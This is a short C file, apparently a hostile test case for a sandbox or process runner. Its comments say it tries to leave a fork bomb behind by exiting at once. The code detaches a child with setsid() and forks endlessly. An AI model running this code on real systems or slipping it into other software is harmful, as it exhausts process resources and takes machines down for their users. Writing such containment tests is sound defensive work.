// hostile: exited 0
// tries: to leave a fork bomb behind by exiting at once
#include <unistd.h>

int main(void) {
  if (fork() != 0) return 0;
  setsid();
  for (;;) {
    if (fork() != 0) usleep(100);
  }
}
